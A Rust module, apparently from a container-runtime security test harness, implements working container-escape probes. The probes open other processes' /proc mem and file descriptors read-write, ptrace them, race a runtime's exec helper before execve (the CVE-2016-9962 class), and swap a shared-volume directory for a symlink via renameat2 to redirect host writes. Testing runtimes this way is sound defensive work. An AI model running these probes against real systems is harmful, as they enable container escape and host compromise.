//! Hostile-neighbour steps: what a process of one container can do to the other processes
//! it sees — a runtime helper that joined its pid namespace (a sibling container's init
//! waiting on its exec fifo, an `exec` helper before it executes). The CVE-2016-9962 class:
//! a runtime process that is dumpable once it dropped to the container's credentials can
//! be opened through `/proc/<pid>/mem` and `/proc/<pid>/fd/*`, and ptraced.
//!
//! - `neighbour-scan` attacks every process it sees but itself, once: `/proc/<pid>/mem`
//!   opened read-write, `/proc/<pid>/fd` listed and every descriptor opened read-only and
//!   non-blocking (for an exec fifo: the open that lets the waiting init go on), and
//!   `PTRACE_SEIZE` (undone at once). Reports each result per pid.
//! - `neighbour-watch:<ms>:<comm>` watches for processes that appear during `<ms>` and
//!   spins on each, trying to open its `/proc/<pid>/mem` read-write, to read its
//!   `/proc/<pid>/fd/0` and to `PTRACE_SEIZE` it until one succeeds,
//!   the process goes, or it becomes `<comm>` (the program an `exec` runs, which the
//!   container may legitimately open). A success counts as won only when the process was
//!   still not `<comm>` after the open succeeded: the comm changes once, at `execve`, so
//!   the open happened before it — to the runtime's helper.
//! - `swap-dir:<dir>:<target>:<ms>` is a neighbour sharing a volume with a host process
//!   that writes into it: it waits (up to `<ms>`) for `<dir>` to appear as a real directory
//!   and at once exchanges it (`renameat2(RENAME_EXCHANGE)`, atomic) with a symlink to
//!   `<target>`, so that a writer that goes on by path lands in `<target>` resolved on the
//!   host. Reports whether and after how many polls it swapped.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::Action;
use crate::attempt::failed;
use crate::step::{Step, UsageError};

/// The steps of this module, for the usage text.
pub const NEIGHBOUR: &[&str] = &[
    "neighbour-scan",
    "neighbour-watch:<ms>:<comm>",
    "swap-dir:<dir>:<target>:<ms>",
];

const MAX_MS: u64 = 600_000;

/// One attack on a pid: `Ok(())` or the errno.
type Attempt = fn(i32) -> Result<(), i32>;

/// Plan a neighbour step; `Ok(None)` when `step` is not one.
pub fn plan(step: &Step) -> Result<Option<Action>, UsageError> {
    let a: Action = match step.name.as_str() {
        "neighbour-scan" => {
            step.arity(0, 0)?;
            Box::new(scan)
        }
        "neighbour-watch" => {
            step.arity(2, 2)?;
            let ms = step.u64_arg(0, 0, MAX_MS)?;
            let comm = step.str_arg(1, "").to_owned();
            if comm.is_empty() || comm.len() > 15 {
                return Err(step.usage("the comm to skip must be 1 to 15 bytes"));
            }
            Box::new(move || watch(Duration::from_millis(ms), &comm))
        }
        "swap-dir" => {
            step.arity(3, 3)?;
            let dir = step.str_arg(0, "").to_owned();
            let target = step.str_arg(1, "").to_owned();
            let ms = step.u64_arg(2, 0, MAX_MS)?;
            if !dir.starts_with('/') || target.is_empty() {
                return Err(step.usage("give an absolute directory and a symlink target"));
            }
            Box::new(move || swap_dir(&dir, &target, Duration::from_millis(ms)))
        }
        _ => return Ok(None),
    };
    Ok(Some(a))
}

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

/// The pids under /proc, but ours.
fn pids() -> BTreeSet<i32> {
    let me = std::process::id() as i32;
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return BTreeSet::new();
    };
    dir.filter_map(|e| e.ok()?.file_name().to_str()?.parse::<i32>().ok())
        .filter(|&p| p != me)
        .collect()
}

fn comm(pid: i32) -> Option<String> {
    std::fs::read_to_string(format!("/proc/{pid}/comm"))
        .ok()
        .map(|s| s.trim_end().to_owned())
}

/// open(2) then close(2): `Ok(())` or the errno.
#[expect(unsafe_code, reason = "open(2) and close(2) through libc")]
fn open_close(path: &str, flags: libc::c_int) -> Result<(), i32> {
    let Ok(c) = CString::new(path) else {
        return Err(libc::EINVAL);
    };
    // SAFETY: `c` is a NUL-terminated string that outlives the call.
    let fd = unsafe { libc::open(c.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(errno());
    }
    // SAFETY: `fd` was just opened by us and is closed once.
    unsafe { libc::close(fd) };
    Ok(())
}

fn result(r: Result<(), i32>) -> Value {
    match r {
        Ok(()) => json!({"ok": true}),
        Err(e) => failed(e),
    }
}

/// PTRACE_SEIZE; on success stop, wait for and detach the tracee again.
#[expect(unsafe_code, reason = "ptrace(2) and waitpid(2) through libc")]
fn ptrace_seize(pid: i32) -> Result<(), i32> {
    // SAFETY: PTRACE_SEIZE takes integer arguments only.
    let r = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0usize, 0usize) };
    if r < 0 {
        return Err(errno());
    }
    // SAFETY: integer arguments; the status pointer is a valid local.
    unsafe {
        libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0usize, 0usize);
        let mut status = 0;
        libc::waitpid(pid, &mut status, libc::__WALL);
        libc::ptrace(libc::PTRACE_DETACH, pid, 0usize, 0usize);
    }
    Ok(())
}

/// Every attack on one process.
fn attack(pid: i32) -> Value {
    let proc = format!("/proc/{pid}");
    let mem = result(open_close(&format!("{proc}/mem"), libc::O_RDWR));
    let fds = match std::fs::read_dir(format!("{proc}/fd")) {
        Err(e) => failed(e.raw_os_error().unwrap_or(0)),
        Ok(dir) => {
            let mut opened = serde_json::Map::new();
            let mut nums: Vec<String> = dir
                .filter_map(|e| e.ok()?.file_name().to_str().map(str::to_owned))
                .collect();
            nums.sort();
            for n in nums {
                let path = format!("{proc}/fd/{n}");
                let link = std::fs::read_link(&path)
                    .map(|l| l.to_string_lossy().into_owned())
                    .map_err(|e| e.raw_os_error().unwrap_or(0));
                let open = open_close(&path, libc::O_RDONLY | libc::O_NONBLOCK);
                opened.insert(
                    n,
                    json!({
                        "link": match &link { Ok(l) => json!(l), Err(e) => failed(*e) },
                        "open": result(open),
                    }),
                );
            }
            json!({"ok": true, "fds": opened})
        }
    };
    let ptrace = result(ptrace_seize(pid));
    json!({"comm": comm(pid), "mem": mem, "fd": fds, "ptrace": ptrace})
}

fn scan() -> Value {
    let mut out = serde_json::Map::new();
    for pid in pids() {
        out.insert(pid.to_string(), attack(pid));
    }
    json!({"ok": true, "pids": out})
}

/// `swap-dir`: wait for `dir` to be a directory, then exchange it with a symlink to `target`.
#[expect(unsafe_code, reason = "renameat2(2) through a raw system call")]
fn swap_dir(dir: &str, target: &str, span: Duration) -> Value {
    let start = Instant::now();
    let link = format!("{dir}.swap");
    let (Ok(a), Ok(b)) = (CString::new(link.as_str()), CString::new(dir)) else {
        return failed(libc::EINVAL);
    };
    let mut polls = 0u64;
    while start.elapsed() < span {
        polls += 1;
        // (lstat: a symlink to a directory is not one)
        if !std::fs::symlink_metadata(dir).is_ok_and(|m| m.file_type().is_dir()) {
            continue;
        }
        // made only now: until the directory appears, the volume holds nothing of ours
        if let Err(e) = std::os::unix::fs::symlink(target, &link) {
            return failed(e.raw_os_error().unwrap_or(0));
        }
        // SAFETY: two NUL-terminated paths that outlive the call; integer flags.
        let r = unsafe {
            libc::syscall(
                libc::SYS_renameat2,
                libc::AT_FDCWD,
                a.as_ptr(),
                libc::AT_FDCWD,
                b.as_ptr(),
                libc::RENAME_EXCHANGE,
            )
        };
        return if r == 0 {
            json!({"ok": true, "polls": polls})
        } else {
            failed(errno())
        };
    }
    json!({"ok": false, "timeout": true, "polls": polls})
}

fn watch(span: Duration, skip: &str) -> Value {
    let start = Instant::now();
    let mut seen = pids();
    let mut candidates = 0u64;
    let mut won = Vec::new();
    let mut refused = BTreeSet::new();
    while start.elapsed() < span {
        let now = pids();
        let new: Vec<i32> = now.difference(&seen).copied().collect();
        seen.extend(&new);
        for pid in new {
            candidates += 1;
            // spin until an attack succeeds, the process goes or executes `skip`
            'spin: while start.elapsed() < span {
                let attempts: [(&str, Attempt); 3] = [
                    ("mem", |p| {
                        open_close(&format!("/proc/{p}/mem"), libc::O_RDWR)
                    }),
                    ("fd", |p| {
                        std::fs::read_link(format!("/proc/{p}/fd/0"))
                            .map(drop)
                            .map_err(|e| e.raw_os_error().unwrap_or(0))
                    }),
                    ("ptrace", ptrace_seize),
                ];
                for (what, attempt) in attempts {
                    match attempt(pid) {
                        Ok(()) => {
                            // still not `skip` after the success: it hit the helper
                            match comm(pid) {
                                Some(c) if c != skip => {
                                    won.push(json!({"pid": pid, "comm": c, "what": what}));
                                }
                                _ => {}
                            }
                            break 'spin;
                        }
                        Err(e) if e == libc::ENOENT || e == libc::ESRCH => break 'spin,
                        Err(e) => {
                            refused.insert(format!("{what}:{}", crate::names::errno_name(e)));
                        }
                    }
                }
                match comm(pid) {
                    Some(c) if c != skip => {}
                    _ => break,
                }
            }
        }
    }
    json!({
        "ok": true,
        "candidates": candidates,
        "won": won,
        "refused": refused.into_iter().collect::<Vec<_>>(),
    })
}
